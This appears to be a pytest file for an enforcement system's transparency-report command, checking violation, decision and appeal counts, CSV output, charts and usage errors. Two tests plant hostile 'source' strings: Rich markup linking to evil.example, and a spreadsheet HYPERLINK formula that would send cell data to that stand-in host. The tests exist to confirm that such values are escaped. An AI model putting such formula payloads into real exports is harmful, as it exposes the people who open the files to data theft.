"""Transparency reports (``enforcement report``) on a known population, on SQLite and PostgreSQL.

The stories below are small enough to count by hand; the report must find exactly those counts,
only for the events recorded in its period, as a table, as CSV and as a PNG chart.
"""

from __future__ import annotations

import csv
import io
from collections import Counter
from datetime import timedelta
from pathlib import Path

import pytest
from aup_population import Population, system_fixture, template_fixture
from click.testing import Result
from test_service_support import OPERATOR, REPORTER, T0, FakeClock
from typer.testing import CliRunner

from enforcement import operator_decisions as ops
from enforcement import reports
from enforcement.bootstrap import Container
from enforcement.cli import app
from enforcement.policy import ViolationReport
from enforcement.reports import report_csv_rows, transparency_report
from events.timefmt import format_time

HOUR, DAY = timedelta(hours=1), timedelta(days=1)
START, END = T0 - DAY, T0 + 10 * DAY


def report(
    system: Container,
    account: str,
    category: str,
    occurred_ago: timedelta,
    severity: str | None = None,
    **fields: str,
) -> str:
    violation = ViolationReport(category, system.clock() - occurred_ago, severity, **fields)
    outcome = system.service.report_violation(account, violation, REPORTER)
    return str(outcome.events[0].data["violation_id"])


def stories(system: Container, clock: FakeClock) -> Population:
    """Day 0: acct_a spam (occurred 2 h before) → warning and remediation.
    Day 1: acct_a phishing high (30 min) → indefinite suspension; acct_b csam (1 h) →
    termination and referral. Day 2: acct_b spam → nothing (terminated); an operator suspends
    acct_c. Day 3: acct_c appeals, upheld; acct_a appeals the suspension, overturned →
    reinstatement and the phishing violation dismissed. Day 12 (outside the period): acct_c spam.
    """
    service = system.service
    report(system, "acct_a", "spam", 2 * HOUR, source="mail-classifier", detection="automated")
    clock.advance(DAY)
    report(system, "acct_a", "phishing", HOUR / 2, "high", source="abuse-desk",
           detection="human_review")  # fmt: skip
    report(system, "acct_b", "csam", HOUR)
    clock.advance(DAY)
    report(system, "acct_b", "spam", HOUR)
    suspended = service.operator("acct_c", ops.Suspend("review"), OPERATOR).events[0]
    clock.advance(DAY)
    appeal = service.file_appeal("acct_c", suspended.event_id, "wrong", OPERATOR)
    service.decide_appeal(
        "acct_c", appeal.events[0].data["appeal_id"], "upheld", "stands", OPERATOR
    )
    suspension = next(e for e in system.store.read_stream("acct_a") if e.type == "AccountSuspended")
    appeal = service.file_appeal("acct_a", suspension.event_id, "not us", OPERATOR)
    service.decide_appeal(
        "acct_a", appeal.events[0].data["appeal_id"], "overturned", "misread", OPERATOR
    )
    clock.advance(9 * DAY)
    report(system, "acct_c", "spam", HOUR)
    return Population(["acct_a", "acct_b", "acct_c"])


template = template_fixture("reports", stories)
system = system_fixture()


def test_the_report_counts_the_known_population(system: Container) -> None:
    result = transparency_report(system.store, START, END)

    assert result.violations_by_category == Counter(spam=2, phishing=1, csam=1)
    assert result.violations_by_source == Counter(
        {"mail-classifier": 1, "abuse-desk": 1, "unspecified": 2}
    )
    assert result.violations_by_detection == Counter(automated=3, human_review=1)
    assert result.decisions_automated == Counter(
        {
            "warning / remediation": 1,
            "suspension": 1,
            "termination": 1,
            "referral to authorities": 1,
        }
    )
    assert result.decisions_by_operator == Counter(
        {"suspension": 1, "reinstatement": 1, "violation dismissed": 1}
    )
    assert (result.appeals_filed, result.appeals_pending) == (2, 0)
    assert result.appeal_outcomes == Counter(upheld=1, overturned=1)
    assert sorted(result.times_to_decision) == [1800.0, 3600.0, 7200.0]
    assert result.median_time_to_decision == HOUR
    assert result.undecided == 1  # the spam on the terminated account
    assert result.accounts == 2


def test_only_events_recorded_in_the_period_count(system: Container) -> None:
    day_one = transparency_report(system.store, T0 + DAY, T0 + DAY)
    later = transparency_report(system.store, T0 + 11 * DAY, T0 + 13 * DAY)

    assert day_one.violations_by_category == Counter(phishing=1, csam=1)
    assert day_one.appeals_filed == 0
    assert later.violations_by_category == Counter(spam=1)
    assert later.accounts == 1 and later.undecided == 0
    instant = format_time(T0 + DAY)  # --since may equal --until
    code, text = invoke(system, "--since", instant, "--until", instant, "--format", "csv")
    assert code == 0, text
    assert ["violations_by_category", "csam", "1"] in list(csv.reader(io.StringIO(text)))

    before = transparency_report(system.store, T0 - 3 * DAY, T0 - 2 * DAY)
    assert before.median_time_to_decision is None
    assert ["time_to_decision", "median_seconds", ""] in report_csv_rows(before)


def invoke_result(system: Container, *args: str) -> Result:
    env = {"ENFORCEMENT_DATABASE_URL": system.settings.database_url, "COLUMNS": "160"}
    return CliRunner().invoke(app, ["report", *args], env=env)


def invoke(system: Container, *args: str) -> tuple[int, str]:
    result = invoke_result(system, *args)
    return result.exit_code, result.stdout


def period() -> list[str]:
    return ["--since", format_time(START), "--until", format_time(END)]


def test_an_overturn_that_gives_back_a_replaced_suspension_counts(system: Container) -> None:
    """Reversed by ``SuspensionEnded`` "overturned" (the 7-day suspension it had replaced still
    runs), not by a reinstatement: still a decision of the operator's in the report."""
    clock = system.clock
    assert isinstance(clock, FakeClock)
    clock.advance(HOUR)  # after the stories' last event
    since = clock()
    report(system, "acct_d", "phishing", HOUR, "high")  # 7 days
    clock.advance(HOUR)
    report(system, "acct_d", "phishing", HOUR, "high")  # indefinitely, replacing it
    longer = system.store.read_stream("acct_d")[-2]
    assert longer.type == "AccountSuspended" and longer.data["until"] is None
    appeal = system.service.file_appeal("acct_d", longer.event_id, "not us", OPERATOR)
    system.service.decide_appeal(
        "acct_d", appeal.events[0].data["appeal_id"], "overturned", "misread", OPERATOR
    )
    result = transparency_report(system.store, since, clock())
    assert result.decisions_by_operator == Counter(
        {"suspension overturned": 1, "violation dismissed": 1}
    )
    assert result.decisions_automated == Counter({"suspension": 2})


def test_the_cli_prints_a_table_csv_and_draws_a_chart(system: Container, tmp_path: Path) -> None:
    chart = tmp_path / "report.png"

    table_code, table = invoke(system, *period())
    drawn = invoke_result(system, *period(), "--format", "csv", "--chart", str(chart))
    csv_code, text = drawn.exit_code, drawn.stdout

    assert table_code == 0 and "Violations by category" in table and "median" in table
    assert csv_code == 0
    assert drawn.stderr == f"Chart written to {chart}.\n"  # on stderr: stdout is the CSV
    assert list(csv.reader(io.StringIO(text))) == [
        ["section", "name", "value"],
        ["period", "since", format_time(START)],
        ["period", "until", format_time(END)],
        ["violations_by_category", "csam", "1"],
        ["violations_by_category", "phishing", "1"],
        ["violations_by_category", "spam", "2"],
        ["violations_by_source", "abuse-desk", "1"],
        ["violations_by_source", "mail-classifier", "1"],
        ["violations_by_source", "unspecified", "2"],
        ["violations_by_detection", "automated", "3"],
        ["violations_by_detection", "human_review", "1"],
        *(
            row
            for kind, (automated, by_operator) in {
                "warning / remediation": (1, 0),
                "suspension": (1, 1),
                "termination": (1, 0),
                "referral to authorities": (1, 0),
                "violation dismissed": (0, 1),
                "reinstatement": (0, 1),
            }.items()
            for row in (
                ["decisions_by_kind", kind, str(automated + by_operator)],
                ["decisions_by_policy_engine", kind, str(automated)],
                ["decisions_by_operator", kind, str(by_operator)],
            )
        ),
        ["appeals", "filed", "2"],
        ["appeals", "upheld", "1"],
        ["appeals", "overturned", "1"],
        ["appeals", "not_decided", "0"],
        ["time_to_decision", "median_seconds", "3600"],
        ["time_to_decision", "decided_violations", "3"],
        ["time_to_decision", "undecided_violations", "1"],
    ]
    image = chart.read_bytes()
    assert image.startswith(b"\x89PNG\r\n\x1a\n") and len(image) > 20_000


def test_a_source_is_shown_as_written_not_read_as_markup(system: Container) -> None:
    """A violation's ``source`` is the reporter's free text, and the log keeps it for good:
    read as Rich markup, ``[/bold]`` made every report of its period fail."""
    report(system, "acct_m", "spam", HOUR, source="[/bold] [link=http://evil.example]x[/link]")
    now = system.clock()

    code, table = invoke(
        system, "--since", format_time(now - HOUR), "--until", format_time(now + HOUR)
    )

    assert code == 0, table
    assert "[/bold] [link=http://evil.example]x[/link]" in table


def test_a_source_in_csv_is_never_a_spreadsheet_formula(system: Container) -> None:
    """A reporter's ``source`` opens a cell of the CSV: one starting as a formula would run in
    the spreadsheet an operator opens the transparency report in."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    for source in (formula, "@SUM(1+1)", "+1", "-1", "mail-classifier"):
        report(system, "acct_m", "spam", HOUR, source=source)
    now = system.clock()

    code, text = invoke(
        system, "--since", format_time(now - HOUR), "--until", format_time(now + HOUR),
        "--format", "csv",
    )  # fmt: skip

    assert code == 0, text
    sources = {r[1] for r in csv.reader(io.StringIO(text)) if r[0] == "violations_by_source"}
    assert {"'" + formula, "'@SUM(1+1)", "'+1", "'-1", "mail-classifier"} <= sources
    assert not any(s.startswith(("=", "+", "-", "@")) for s in sources)


def test_a_chart_that_cannot_be_written_is_a_usage_error(system: Container, tmp_path: Path) -> None:
    """Exit 2, as ``export -o`` to such a path (exit 1 says a check failed)."""
    nowhere = tmp_path / "no" / "such" / "dir" / "report.png"
    result = invoke_result(system, *period(), "--chart", str(nowhere))
    assert result.exit_code == 2
    assert result.stderr == f"Could not write {nowhere}: No such file or directory.\n"


def test_a_chart_without_matplotlib_says_how_to_install_it(
    system: Container, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_matplotlib(*_: object) -> None:
        raise ImportError("No module named 'matplotlib'")

    monkeypatch.setattr(reports, "write_chart", no_matplotlib)
    result = invoke_result(system, *period(), "--chart", str(tmp_path / "report.png"))
    assert result.exit_code == 2
    assert result.stderr == (
        "--chart needs matplotlib: install it with `pip install matplotlib`.\n"
    )


A_DAY = ["--since", "2026-11-24T10:00:00Z", "--until", "2026-11-25T10:00:00Z"]
RFC3339 = "must be an RFC 3339 time with a UTC offset, such as 2026-11-24T10:00:00Z."


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--since", "2026-11-24T10:00:00Z"], "Missing option '--until'"),
        (["--since", "yesterday", "--until", "2026-11-24T10:00:00Z"], f"--since {RFC3339}"),
        (["--since", "2026-11-24T10:00:00Z", "--until", "tomorrow"], f"--until {RFC3339}"),
        (
            ["--since", "2026-11-25T10:00:00Z", "--until", "2026-11-24T10:00:00Z"],
            "--since must not be later than --until.",
        ),
        (
            [*A_DAY, "--format", "xml"],
            "Unknown format 'xml'; choose table or csv.",
        ),
        (
            [*A_DAY, "--chart", "a.svg"],
            "--chart must name a .png file, not a.svg.",
        ),
    ],
)
def test_usage_errors_exit_2(sqlite_url: str, args: list[str], says: str) -> None:
    """Refused before the database is opened (``sqlite_url`` names no file)."""
    result = CliRunner().invoke(
        app, ["report", *args], env={"ENFORCEMENT_DATABASE_URL": sqlite_url}
    )

    assert result.exit_code == 2
    assert says in result.stderr
    assert "database" not in result.stderr
